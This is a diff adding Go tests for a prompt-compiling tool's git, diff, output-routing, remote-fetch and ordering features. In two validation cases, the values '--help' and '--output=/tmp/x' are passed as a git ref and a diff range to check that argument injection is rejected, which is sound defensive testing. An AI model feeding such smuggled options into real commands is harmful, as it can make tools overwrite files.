+	os.WriteFile(filepath.Join(repo, "src", "main.go"), []byte("package main // v2\n"), 0644)
+	os.Remove(filepath.Join(repo, "src", "old.go"))
+	os.RemoveAll(filepath.Join(repo, "legacy"))
+	git("commit", "-q", "-a", "-m", "v2")
+
+	promptFile := filepath.Join(repo, "prompt.yml")
+	compile := func(ops string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("vars:\n  release: v1.0.0\nprompt:\n"+ops), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", SectionIDs: true})
+	}
+
+	compiled, err := compile("  - git: {path: \"src/main.go\", ref: \"${release}\"}\n  - git: {path: \"src/main.go\", ref: \"HEAD\"}\n  - git: {path: \"src/old.go\", ref: \"HEAD~1\"}\n")
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	expected := []ContentSection{
+		{Source: "src/main.go@v1.0.0", Content: "package main // v1\n", Type: GitOp},
+		{Source: "src/main.go@HEAD", Content: "package main // v2\n", Type: GitOp},
+		{Source: "src/old.go@HEAD~1", Content: "package main // removed\n", Type: GitOp},
+	}
+	if len(compiled.Sections) != len(expected) {
+		t.Fatalf("expected %d sections, got %+v", len(expected), compiled.Sections)
+	}
+	for i, section := range compiled.Sections {
+		if section.Source != expected[i].Source || section.Content != expected[i].Content || section.Type != GitOp {
+			t.Errorf("section %d: expected %+v, got %+v", i, expected[i], section)
+		}
+	}
+	if compiled.Sections[0].ID == compiled.Sections[1].ID {
+		t.Errorf("versions of a file at different refs should have different IDs, both got %s", compiled.Sections[0].ID)
+	}
+
+	// A file whose directories were removed since is still found
+	compiled, err = compile("  - git: {path: \"legacy/util/strings.go\", ref: \"HEAD~1\"}\n")
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Sections) != 1 || compiled.Sections[0].Content != "package util\n" {
+		t.Errorf("Expected the removed file's content, got %+v", compiled.Sections)
+	}
+
+	for ops, message := range map[string]string{
+		"  - git: {path: \"src/main.go\", ref: \"v9\"}\n":     "unknown git ref \"v9\"",
+		"  - git: {path: \"src/old.go\", ref: \"HEAD\"}\n":    "src/old.go does not exist at HEAD",
+		"  - git: {path: \"src/main.go\"}\n":                  "git needs both path and ref",
+		"  - git: {path: \"src/main.go\", ref: \"--help\"}\n": "invalid git ref",
+	} {
+		if _, err := compile(ops); err == nil || !strings.Contains(err.Error(), message) {
+			t.Errorf("%s: expected an error containing %q, got %v", ops, message, err)
+		}
+	}
+}
+
+func TestGitDiffOperation(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	repo := t.TempDir()
+	git := func(args ...string) {
+		t.Helper()
+		cmd := exec.Command("git", append([]string{"-c", "user.name=pcp", "-c", "user.email=pcp@example.com"}, args...)...)
+		cmd.Dir = repo
+		if output, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v failed: %v\n%s", args, err, output)
+		}
+	}
+	write := func(name, content string) {
+		t.Helper()
+		if err := os.WriteFile(filepath.Join(repo, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	write("main.go", "package main\n\nfunc main() {\n\tprintln(1)\n}\n")
+	write("old.txt", "the same text on several lines\nso git sees a rename\nnot a new file\n")
+	write("gone.txt", "bye\n")
+	git("init", "-q")
+	git("add", ".")
+	git("commit", "-q", "-m", "one")
+	write("main.go", "package main\n\nfunc main() {\n\tprintln(2)\n}\n")
+	git("mv", "old.txt", "new.txt")
+	git("rm", "-q", "gone.txt")
+	write("added.txt", "hello\n")
+	git("add", ".")
+	git("commit", "-q", "-m", "two")
+
+	promptFile := filepath.Join(repo, "prompt.yml")
+	compile := func(spec string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - diff: "+spec+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	compiled, err := compile(`"HEAD~1..HEAD"`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	section := compiled.Sections[0]
+	if section.Source != "git diff HEAD~1..HEAD" {
+		t.Errorf("Unexpected source %q", section.Source)
+	}
+	for _, expected := range []string{
+		"4 files changed, 2 insertions(+), 2 deletions(-)\n",
+		"\n## added.txt (added, +1 -0)\n@@ -0,0 +1 @@\n+hello\n",
+		"\n## gone.txt (deleted, +0 -1)\n",
+		"\n## main.go (modified, +1 -1)\n@@ -1,5 +1,5 @@\n package main\n \n func main() {\n-\tprintln(1)\n+\tprintln(2)\n }\n",
+		"\n## old.txt -> new.txt (renamed, +0 -0)\n",
+	} {
+		if !strings.Contains(section.Content, expected) {
+			t.Errorf("Expected the diff to contain %q, got:\n%s", expected, section.Content)
+		}
+	}
+	if strings.Contains(section.Content, "index ") {
+		t.Errorf("git metadata lines should be left out, got:\n%s", section.Content)
+	}
+
+	compiled, err = compile(`{range: HEAD~1, paths: [main.go], context: 0}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	expected := "1 file changed, 1 insertions(+), 1 deletions(-)\n\n## main.go (modified, +1 -1)\n@@ -4 +4 @@ func main() {\n-\tprintln(1)\n+\tprintln(2)\n"
+	if section := compiled.Sections[0]; section.Content != expected || section.Source != "git diff HEAD~1 -- main.go" {
+		t.Errorf("Unexpected diff section %q:\n%s", section.Source, section.Content)
+	}
+
+	write("main.go", "package main\n")
+	git("add", "main.go")
+	write("added.txt", "unstaged\n")
+	compiled, err = compile(`{staged: true}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if content := compiled.Sections[0].Content; !strings.Contains(content, "## main.go (modified, +0 -4)") || strings.Contains(content, "added.txt") {
+		t.Errorf("Expected only the staged change, got:\n%s", content)
+	}
+	compiled, err = compile(`{paths: [added.txt]}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if content := compiled.Sections[0].Content; !strings.Contains(content, "+unstaged") {
+		t.Errorf("Expected the unstaged change, got:\n%s", content)
+	}
+	compiled, err = compile(`"HEAD..HEAD"`)
+	if err != nil || compiled.Sections[0].Content != "no changes\n" {
+		t.Errorf("Expected an empty diff to say so, got %v %+v", err, compiled.Sections)
+	}
+
+	for spec, message := range map[string]string{
+		`{a: main.go, b: new.txt, staged: true}`: "apply only to git diffs",
+		`"--output=/tmp/x"`:                      "invalid diff range",
+		`{range: HEAD, contxt: 0}`:               `unknown key "contxt"`,
+		`"no-such-ref"`:                          "no-such-ref",
+	} {
+		if _, err := compile(spec); err == nil || !strings.Contains(err.Error(), message) {
+			t.Errorf("%s: expected an error containing %q, got %v", spec, message, err)
+		}
+	}
+}
+
+func TestRouteOutputs(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"main.go": "package main",
+		"sub.yml": "prompt:\n  - file: \"main.go\"\n  - command: \"echo nested\"\n",
+		"prompt.yml": `prompt:
+  - text: "Review this"
+  - file: "main.go"
+  - command: "echo dynamic"
+  - prompt: "sub.yml"`,
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create %s: %v", name, err)
+		}
+	}
+	static, dynamic, mainOut := filepath.Join(tmpDir, "static.txt"), filepath.Join(tmpDir, "dynamic.json"), filepath.Join(tmpDir, "out.txt")
+
+	var opts Options
+	fs := flag.NewFlagSet("pcp", flag.ContinueOnError)
+	registerCompileFlags(fs, &opts)
+	if err := fs.Parse([]string{"-f", filepath.Join(tmpDir, "prompt.yml"), "-o", mainOut, "-quiet", "-route", "file,dir=" + static, "-route", "command=" + dynamic}); err != nil {
+		t.Fatalf("Failed to parse flags: %v", err)
+	}
+	if err := validateOptions(opts); err != nil {
+		t.Fatalf("validateOptions failed: %v", err)
+	}
+	compiled, err := compileAndWrite(opts)
+	if err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+	if len(compiled.Sections) != 4 {
+		t.Errorf("The returned content should hold every section, got %d", len(compiled.Sections))
+	}
+
+	read := func(path string) string {
+		t.Helper()
+		data, err := os.ReadFile(path)
+		if err != nil {
+			t.Fatalf("Failed to read %s: %v", path, err)
+		}
+		return string(data)
+	}
+	expected := "<!-- pcp-source: main.go -->\npackage main\n\n<!-- pcp-source: sub.yml -->\n\n<!-- pcp-source: sub.yml->main.go -->\npackage main\n"
+	if got := read(static); got != expected {
+		t.Errorf("Unexpected static output:\n%s", got)
+	}
+	var out jsonOutput
+	if err := json.Unmarshal([]byte(read(dynamic)), &out); err != nil {
+		t.Fatalf("A .json route should be JSON: %v", err)
+	}
+	sections := out.Sections
+	if len(sections) != 2 || sections[0].Source != "echo dynamic" || sections[1].Source != "sub.yml" || len(sections[1].Sections) != 1 || sections[1].Sections[0].Source != "echo nested" {
+		t.Errorf("Unexpected dynamic sections %+v", sections)
+	}
+	if got := read(mainOut); got != "<!-- pcp-source: text -->\nReview this\n" {
+		t.Errorf("Unrouted sections should go to -o, got:\n%s", got)
+	}
+
+	// prompt routes nested prompts whole, and a route nothing takes is emptied
+	opts.Routes = []outputRoute{{Types: []OperationType{PromptOp}, File: static}, {Types: []OperationType{TreeOp}, File: dynamic}}
+	if _, err := compileAndWrite(opts); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+	if got := read(static); !strings.HasPrefix(got, "<!-- pcp-source: sub.yml -->\n") || !strings.Contains(got, "sub.yml->echo nested") {
+		t.Errorf("Expected the nested prompt whole, got:\n%s", got)
+	}
+	out = jsonOutput{}
+	if err := json.Unmarshal([]byte(read(dynamic)), &out); err != nil || len(out.Sections) != 0 {
+		t.Errorf("Expected an empty route, got %v %+v", err, out)
+	}
+
+	// Routes spelled differently share their file
+	opts.Routes = []outputRoute{{Types: []OperationType{TextOp}, File: static}, {Types: []OperationType{CommandOp}, File: filepath.Join(tmpDir, "x") + string(filepath.Separator) + ".." + string(filepath.Separator) + "static.txt"}}
+	if _, err := compileAndWrite(opts); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+	if got := read(static); !strings.HasPrefix(got, "<!-- pcp-source: text -->\nReview this\n\n<!-- pcp-source: echo dynamic -->\ndynamic\n") {
+		t.Errorf("Expected both routes in one file, got:\n%s", got)
+	}
+
+	for _, test := range []struct {
+		args    []string
+		message string
+	}{
+		{[]string{"-route", "comand=x.txt"}, `unknown section type "comand"`},
+		{[]string{"-route", "x.txt"}, "expected types=file"},
+		{[]string{"-route", "file=a.txt", "-route", "file=b.txt"}, "file sections are routed to both a.txt and b.txt"},
+		{[]string{"-route", "file=a.txt", "-o", "a.txt"}, "also the -o output"},
+		{[]string{"-route", "command=./out.txt", "-o", "out.txt"}, "also the -o output"},
+		{[]string{"-route", "file=a.txt", "-o-dir", "out"}, "cannot be used with -o-dir"},
+		{[]string{"-route", "file=a.json", "-checksum"}, "-checksum cannot be used with -route file a.json"},
+	} {
+		var opts Options
+		fs := flag.NewFlagSet("pcp", flag.ContinueOnError)
+		fs.SetOutput(io.Discard)
+		registerCompileFlags(fs, &opts)
+		err := fs.Parse(test.args)
+		if err == nil {
+			err = validateOptions(opts)
+		}
+		if err == nil || !strings.Contains(err.Error(), test.message) {
+			t.Errorf("%v: expected an error containing %q, got %v", test.args, test.message, err)
+		}
+	}
+}
+
+func TestRemotePrefetch(t *testing.T) {
+	// Each request waits until another has arrived, so fetching one after
+	// another fails instead of taking twice as long
+	var mu sync.Mutex
+	arrived, ready := 0, make(chan struct{})
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		if arrived++; arrived == 2 {
+			close(ready)
+		}
+		wait := ready
+		mu.Unlock()
+		select {
+		case <-wait:
+		case <-time.After(2 * time.Second):
+			http.Error(w, "fetched one at a time", http.StatusServiceUnavailable)
+			return
+		}
+		if strings.HasSuffix(r.URL.Path, ".yml") {
+			fmt.Fprintf(w, "prompt:\n  - text: \"from %s\"\n", r.URL.Path)
+			return
+		}
+		fmt.Fprintf(w, "content of %s", r.URL.Path)
+	}))
+	defer server.Close()
+	defer func(client *http.Client) { remoteClient = client }(remoteClient)
+	remoteClient = server.Client()
+
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	for _, test := range []struct {
+		name, prompt string
+		expected     []string
+	}{
+		{"pcp_remote", "  - text: \"local\"\n  - pcp_remote: \"" + server.URL + "/a\"\n  - pcp_remote: \"" + server.URL + "/b\"\n",
+			[]string{"local", "content of /a", "content of /b"}},
+		{"prompts", "  - prompt: \"" + server.URL + "/one.yml\"\n  - prompt: \"" + server.URL + "/two.yml\"\n",
+			[]string{"from /one.yml", "from /two.yml"}},
+	} {
+		mu.Lock()
+		arrived, ready = 0, make(chan struct{})
+		mu.Unlock()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n"+test.prompt), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true, NoCache: true})
+		if err != nil {
+			t.Fatalf("%s: compilePromptFile failed: %v", test.name, err)
+		}
+		var contents []string
+		for _, section := range leafSections(compiled.Sections) {
+			contents = append(contents, section.Content)
+		}
+		if strings.Join(contents, "|") != strings.Join(test.expected, "\n|")+"\n" {
+			t.Errorf("%s: expected the sections in prompt order, got %q", test.name, contents)
+		}
+	}
+}
+
+func TestExpansionOrder(t *testing.T) {
+	tmpDir := t.TempDir()
+	// Bytewise on slash-separated paths: upper case before lower case, "."
+	// before "/", and non-ASCII names after ASCII ones
+	expected := []string{"src/B.go", "src/a.go", "src/a.txt", "src/a/b", "src/z.go", "src/é.go", "src/ö/x.go"}
+	for _, name := range []string{"src/ö/x.go", "src/é.go", "src/z.go", "src/a/b", "src/a.txt", "src/a.go", "src/B.go"} {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(name+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	for _, op := range []string{`file: "src/**/*"`, `dir: "src"`} {
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - "+op+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml"})
+		if err != nil {
+			t.Fatalf("%s: compilePromptFile failed: %v", op, err)
+		}
+		var sources []string
+		for _, section := range compiled.Sections {
+			sources = append(sources, section.Source)
+		}
+		if !slices.Equal(sources, expected) {
+			t.Errorf("%s: expected the files in order %v, got %v", op, expected, sources)
+		}
+	}
+}